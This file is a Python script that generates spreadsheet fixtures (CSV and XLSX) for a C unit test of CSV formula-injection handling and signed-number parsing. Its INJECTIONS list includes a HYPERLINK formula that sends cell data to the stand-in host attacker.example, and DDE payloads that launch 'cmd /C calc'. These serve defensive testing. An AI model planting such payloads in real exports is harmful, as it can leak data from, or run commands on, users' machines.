#!/usr/bin/python3
"""Writes real spreadsheet exports for tests/unit/csv.c into DIR (argv[1]).

  python-numbers.csv       Python's csv module: signed numbers, which are data
  python-formula-N.csv     Python's csv module: one formula injection each
  numbers.xlsx             openpyxl: signed numbers with number formats that
                           LibreOffice writes "as shown" (-1,500.25, +7, -1.50E+03)
  formula-N.xlsx           openpyxl: one injection each, stored as text cells

tests/unit/csv.c converts the .xlsx files with soffice --headless
--convert-to csv when LibreOffice is installed. With no openpyxl the .xlsx
files are not written (and the LibreOffice case is skipped).
"""
import csv
import os
import sys

INJECTIONS = [
    '=HYPERLINK("http://attacker.example/?d="&A1,"Click")',
    '-2+3',
    "+cmd|' /C calc'!A0",
    '@SUM(1)',
    '\t=1',
    '=1+1',
    "-cmd|' /C calc'!A0",
    ' =2',
]

out = sys.argv[1]
with open(os.path.join(out, 'python-numbers.csv'), 'w', newline='') as f:
    w = csv.writer(f)
    w.writerow(['party', 'delta', 'count', 'big', 'sci', 'text'])
    w.writerow(['ALPHA', -12.5, -3, '-1,234.5', -1.5e3, 'a-b'])
    w.writerow(['BETA', '+7', -0.5, '-1,234,567.25', '-1.5E3', 'x=1'])
    w.writerow(['GAMMA', '-.5', '+0', '-5%', '-1e-3', '-'.join(['n', 'a'])])
for i, v in enumerate(INJECTIONS):
    with open(os.path.join(out, 'python-formula-%d.csv' % i), 'w', newline='') as f:
        w = csv.writer(f)
        w.writerow(['party', 'note'])
        w.writerow(['ALPHA', v])

try:
    import openpyxl
except ImportError:
    sys.exit(0)
wb = openpyxl.Workbook()
ws = wb.active
ws.append(['party', 'delta', 'count', 'big', 'sci'])
ws.append(['ALPHA', -12.5, -3, -1500.25, -1500])
ws.append(['BETA', 7, 0, 1234567.5, 0.00015])
for c in ('D2', 'D3'):
    ws[c].number_format = '#,##0.00'
for c in ('E2', 'E3'):
    ws[c].number_format = '0.00E+00'
ws['B3'].number_format = '+0;-0;0'
wb.save(os.path.join(out, 'numbers.xlsx'))
for i, v in enumerate(INJECTIONS):
    wb = openpyxl.Workbook()
    ws = wb.active
    ws['A1'] = 'note'
    c = ws['A2']
    c.value = v
    c.data_type = 's'          # text, as a Party's cell would be: not a formula
    wb.save(os.path.join(out, 'formula-%d.xlsx' % i))
